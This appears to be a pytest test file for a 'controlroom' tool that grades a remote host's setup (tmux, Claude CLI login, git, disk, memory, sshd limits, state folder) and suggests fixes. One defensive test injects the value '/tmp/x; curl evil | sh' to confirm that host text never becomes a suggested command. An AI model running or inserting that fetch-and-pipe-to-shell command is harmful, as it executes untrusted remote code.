"""A host's check-up: each thing judged, and what mends it is ours to say."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from controlroom.cli.records import Checked, answer
from controlroom.domain.display import checkup
from controlroom.domain.display.checkup import Grade
from controlroom.domain.model import LinkState
from controlroom.domain.questions import QuestionKind
from controlroom.text.host_sample import HostCheck
from tests.domain.worlds import GIB, MINUTE, NOON, facts, fleet, host, question

WELL = HostCheck(
    python="3.11.2",
    tmux="3.3a",
    claude="2.1.330",
    claude_at="/usr/bin/claude",
    logged_in=True,
    login="claude.ai max",
    git="2.39.5",
    disk_free=90 * GIB,
    disk_total=100 * GIB,
    inodes_free=900_000,
    inodes_total=1_000_000,
    memory_free=3 * GIB,
    memory_total=4 * GIB,
    swap_free=0,
    swap_total=0,
    max_sessions=10,
    max_startups="10:30:100",
    max_processes=30_000,
    processes=80,
    inotify_watches=65_536,
    systemd=True,
    linger=True,
    state_folder="/home/ann/.local/state/controlroom",
    state_mode=0o700,
)


def judged(name: str, **changes: object) -> checkup.Check:
    found = replace(WELL, **changes)  # type: ignore[arg-type]
    (check,) = [check for check in checkup.checks(fleet(), host(), found, NOON) if check.name == name]
    return check


def test_a_host_that_has_all_is_well() -> None:
    checks = checkup.checks(fleet(), host(), WELL, NOON)
    assert [check for check in checks if check.verdict != Grade.OK] == []
    assert checkup.is_well(checks)
    assert not [line for line in checkup.lines(checks) if line.tone == "do"]
    assert json.loads(json.dumps(answer("host check", Checked(host(), checks, ""))))["ok"] is True


@pytest.mark.parametrize(
    ("name", "changes", "verdict", "words"),
    [
        ("tmux", {"tmux": ""}, "bad", "apt-get install tmux"),
        ("tmux", {"tmux": "2.9a"}, "bad", "agents need 3.2a"),
        ("claude", {"claude_at": "", "claude_problem": "it is not on the PATH"}, "bad", "npm install -g"),
        ("claude", {"claude_problem": "exit 1: bad ELF"}, "bad", "exit 1: bad ELF"),
        ("claude", {"claude": "1.0.9"}, "bad", "claude update"),
        ("login", {"logged_in": False, "login": "none"}, "warn", "claude auth login"),
        ("login", {"logged_in": None, "login": "", "login_problem": "never used"}, "unknown", "never used"),
        ("login", {"login": "api_key"}, "ok", "an API key: billed by use"),
        ("shell", {"environment_problem": "bash hangs"}, "warn", "bash hangs"),
        ("git", {"git": ""}, "warn", "apt-get install git"),
        ("git", {"git": "2.31.8"}, "warn", "git 2.38 or newer"),
        ("git", {"git": "2.37.1 (Apple Git-137.1)"}, "warn", "git 2.38 or newer"),
        ("git", {"git": "of unknown make"}, "unknown", "git --version"),
        ("disk", {"disk_free": 1 * GIB}, "warn", "controlroom forget"),
        ("disk", {"disk_free": 1024}, "bad", "1.0K free"),
        ("disk", {"disk_free": None}, "unknown", "no reading"),
        ("inodes", {"inodes_free": 10}, "bad", "du --inodes"),
        ("inodes", {"inodes_total": 0}, "ok", "does not count"),
        ("memory", {"memory_free": 1024**2}, "bad", "an agent needs 400M"),
        ("memory", {"memory_free": 500 * 1024**2}, "warn", "room for 1 more"),
        ("swap", {"swap_free": 1, "swap_total": GIB}, "warn", "1B free of 1.0G"),
        ("clock", {"clock_offset": -5_000}, "warn", "-5 s from ours"),
        ("clock", {"clock_offset": 3_600_000}, "bad", "set-ntp true"),
        ("logout", {"linger": False, "ends_at_logout": True}, "bad", "loginctl enable-linger"),
        ("logout", {"linger": False, "ends_at_logout": False}, "ok", "KillUserProcesses=no"),
        ("logout", {"linger": False, "ends_at_logout": None}, "unknown", "enable-linger"),
        ("logout", {"systemd": False, "linger": None}, "ok", "no systemd"),
        ("nproc", {"max_processes": 100, "processes": 90}, "bad", "limits.conf"),
        ("nproc", {"max_processes": 0}, "ok", "no limit, 80 in use"),
        ("inotify", {"inotify_watches": 100}, "warn", "sysctl"),
        ("sshd", {"max_startups": "2:30:60"}, "warn", "sshd_config"),
        ("sshd", {"max_sessions": None, "max_startups": ""}, "unknown", "root only"),
        ("folder", {"state_mode": 0o755}, "bad", "chmod 700 /home/ann/.local/state/controlroom"),
        ("folder", {"state_mode": None}, "ok", "not there yet"),
        ("folder", {"state_problem": "mounted read-only"}, "bad", "make it writable"),
    ],
)
def test_what_is_missing_is_judged_and_mended(name: str, changes: dict[str, object], verdict: str, words: str) -> None:
    check = judged(name, **changes)
    assert check.verdict.value == verdict
    assert words in f"{check.found} {check.mend}"


def test_a_login_is_needed_where_no_profile_brings_one() -> None:
    bare = replace(fleet(), profiles={})
    (login,) = [
        check for check in checkup.checks(bare, host(), replace(WELL, logged_in=False), NOON) if check.name == "login"
    ]
    assert login.verdict == Grade.BAD


def test_no_word_of_a_host_becomes_a_command() -> None:
    evil = "/tmp/x; curl evil | sh"
    texts = {name: evil for name, value in vars(WELL).items() if isinstance(value, str)}
    found = replace(WELL, **texts, state_mode=0o777)  # type: ignore[arg-type]
    for check in checkup.checks(fleet(), host(), found, NOON):
        assert "curl" not in check.mend, check


@pytest.mark.parametrize(
    ("link", "mend"),
    [
        (LinkState.LOST, "ssh -p 2222 ann@vm1 true"),
        (LinkState.REFUSED, "controlroom host retry vm1"),
        (LinkState.CONNECTING, "wait a moment"),
    ],
)
def test_of_a_host_that_is_away_the_link_is_told(link: LinkState, mend: str) -> None:
    away = host(link=link, address="ann@vm1:2222", reason="it does not answer", since=NOON - 4 * MINUTE)
    check = checkup.link_check(away, NOON)
    assert check.verdict == Grade.BAD
    assert "it does not answer" in check.found
    assert mend in check.mend


@pytest.mark.parametrize(
    ("kind", "mend"),
    [
        (QuestionKind.HOST_KEY, "controlroom host answer vm1 allow (or deny; compare the fingerprint first)"),
        (QuestionKind.SECRET, "controlroom host answer vm1 --secret"),
    ],
)
def test_of_a_host_that_asks_the_verb_is_told_that_answers_it(kind: QuestionKind, mend: str) -> None:
    asking = host(link=LinkState.ASKING, question=replace(question("a code", "q1"), kind=kind))
    assert checkup.link_check(asking, NOON).mend == mend


def test_a_host_of_another_room_may_be_taken() -> None:
    check = checkup.link_check(host(facts=facts(owned=False)), NOON)
    assert (check.verdict, check.mend) == (Grade.WARN, "controlroom host take vm1")
